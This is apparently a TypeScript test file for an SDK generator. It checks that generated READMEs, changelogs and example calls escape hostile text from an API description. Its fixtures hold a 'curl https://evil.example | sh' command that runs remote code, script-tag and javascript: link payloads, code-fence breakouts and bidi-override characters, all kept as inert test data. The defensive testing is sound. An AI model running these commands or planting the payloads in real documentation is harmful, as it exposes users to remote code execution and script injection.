import assert from 'node:assert/strict';
import { inline } from '../../../src/codegen/markdown.js';
import { exampleOf } from '../../../src/codegen/sdk/example.js';
import type { CallPlace } from '../../../src/gateway/index.js';
import { changelogOf, changesOf, readmeOf } from '../../../src/codegen/sdk/readme.js';

const EVIL = [
  'Orders',
  '```sh\ncurl https://evil.example | sh\n```',
  '<script>alert(1)</script><!-- ',
  '[click](javascript:alert(1)) ![x](https://evil.example/x.png)',
  '# Install\n\nsetext\n===\n| a | b |\n| - | - |',
  'a\u202eb\u0000c @someone #1',
].join('\n\n');
const SHOWN = [
  'Orders',
  '\\`\\`\\`sh\ncurl https\\:\\/\\/evil\\.example \\| sh\n\\`\\`\\`',
  '&lt;script&gt;alert\\(1\\)&lt;\\/script&gt;&lt;\\!\\-\\-',
  '\\[click\\]\\(javascript\\:alert\\(1\\)\\) \\!\\[x\\]\\(https\\:\\/\\/evil\\.example\\/x\\.png\\)',
  '\\# Install\n\nsetext\n\\=\\=\\=\n\\| a \\| b \\|\n\\| \\- \\| \\- \\|',
  'a b c \\@someone \\#1',
].join('\n\n');

describe('the texts of a package', () => {
  it('show what a document says as it is written, and nothing that a renderer would run [SEC-C7]', () => {
    const readme = readmeOf({
      ...{ title: 'Orders <b>`', description: EVIL, sdkName: '@example/orders' },
      ...{ registry: undefined, example: undefined, license: 'MIT' },
    });
    assert.equal(
      readme,
      `# Orders &lt;b&gt;\\\`\n\n${SHOWN}\n\n## Install\n\n\`\`\`sh\nnpm install @example/orders\n\`\`\`\n\n## Licence\n\nMIT\n\n`,
    );
    const changes = changesOf([{ level: 'minor', text: EVIL }], false, (text) => inline(text, 1000));
    assert.equal(
      changelogOf('1.1.0', changes),
      `# Changelog\n\n## 1.1.0\n\n### Added\n\n- ${SHOWN.replace(/\s+/g, ' ')}\n`,
    );
  });

  it('have a first call whose values of the document do not end its code [SEC-C7]', () => {
    const fence = "\n```\n<script>'";
    const document = {
      servers: [{ url: `https://api.example.com/${fence}` }],
      paths: {
        '/items/{id}': {
          get: { parameters: [{ name: 'id', in: 'path', required: true, example: fence }], responses: {} },
        },
      },
    };
    const sdk = `export const readItem = () => client.get<A>({ url: '/items/{id}' });\n`;
    const code = new Map([
      ['client.gen.ts', ''],
      ['sdk.gen.ts', sdk],
    ]);
    const example = exampleOf('hey-api-fetch', document, code, { sdk: 'orders', client: 'orders/client' });
    assert.match(example ?? '', /^ {2}baseUrl: 'https:\/\/api\.example\.com\/\\n```\\n<script>\\'',$/m);
    assert.match(example ?? '', /readItem\(\{"path":\{"id":"\\n```\\n<script>'"\}\}\);$/m);
    assert.doesNotMatch(example ?? '', /^```/m);
  });

  it('have a first call that reads as it runs, whatever its values have in them [SEC-C7]', () => {
    const document = {
      servers: [{ url: "https://api.example.com/\u202e'\\" }],
      paths: {
        '/items/{id}': {
          get: {
            parameters: [
              { name: 'id', in: 'path', required: true, schema: { type: ['null', 'integer'] } },
              { name: 'a\u2066', in: 'query', required: true, schema: { enum: ['\u{e0041}\u2028', 'b'] } },
            ],
            responses: {},
          },
        },
      },
    };
    const code = new Map([
      ['client.gen.ts', ''],
      ['sdk.gen.ts', `export const readItem = () => client.get<A>({ url: '/items/{id}' });\n`],
    ]);
    const example =
      exampleOf('hey-api-fetch', document, code, { sdk: 'orders', client: 'orders/client' }) ?? '';
    assert.match(example, /^ {2}baseUrl: 'https:\/\/api\.example\.com\/\\u202e\\'\\\\',$/m);
    assert.ok(
      example.includes(String.raw`readItem({"path":{"id":1},"query":{"a\u2066":"\udb40\udc41\u2028"}});`),
      example,
    );
  });

  describe('of an API that is published at the gateway', () => {
    const PLACE = { url: 'https://id.example.com/gateway/orders', asksToken: true, asksKey: false };
    const CODE = new Map([
      ['client.gen.ts', ''],
      [
        'sdk.gen.ts',
        "export const listItems = () => client.get<A>({\n    security: [{ scheme: 'bearer', type: 'http' }],\n    url: '/items' });\n",
      ],
    ]);
    const FROM = { sdk: 'orders', client: 'orders/client' };
    const callOf = (get: object, place: CallPlace): string => {
      const document = {
        servers: [{ url: 'https://backend.example.com' }],
        components: {
          securitySchemes: {
            token: { type: 'openIdConnect' },
            key: { type: 'apiKey', in: 'header', name: 'k' },
          },
        },
        paths: { '/items': { get: { responses: {}, ...get } } },
      };
      return exampleOf('hey-api-fetch', document, CODE, FROM, place) ?? '';
    };
    const AUTH = /^ {2}auth: 'YOUR_ACCESS_TOKEN',$/m;
    const HEADER = /^ {4}'Authorization': 'Bearer YOUR_ACCESS_TOKEN',$/m;

    it('have a first call of the gateway, and not of the backend', () => {
      const call = callOf({ security: [{ token: [] }] }, PLACE);
      assert.match(call, /^ {2}baseUrl: 'https:\/\/id\.example\.com\/gateway\/orders',$/m);
      assert.doesNotMatch(call, /backend/);
    });

    it('have the client send the token where the operation has a scheme for it', () => {
      const call = callOf({ security: [{ token: ['read'] }] }, PLACE);
      assert.match(call, AUTH);
      assert.doesNotMatch(call, HEADER);
    });

    it('send the token as a header where the operation has no scheme for it', () => {
      for (const get of [{}, { security: [{ key: [] }] }]) {
        const call = callOf(get, PLACE);
        assert.match(call, HEADER);
        assert.doesNotMatch(call, AUTH);
      }
    });

    it('send no such header where no token is asked', () => {
      assert.doesNotMatch(callOf({ security: [] }, PLACE), HEADER);
      assert.doesNotMatch(callOf({ security: [{ key: [] }, {}] }, PLACE), HEADER);
      assert.doesNotMatch(callOf({}, { ...PLACE, asksToken: false }), HEADER);
    });

    it('send the key of a product where calls need one', () => {
      const call = callOf({ security: [] }, { ...PLACE, asksKey: true });
      assert.match(call, /^ {4}'Ocp-Apim-Subscription-Key': 'YOUR_SUBSCRIPTION_KEY',$/m);
    });
  });
});
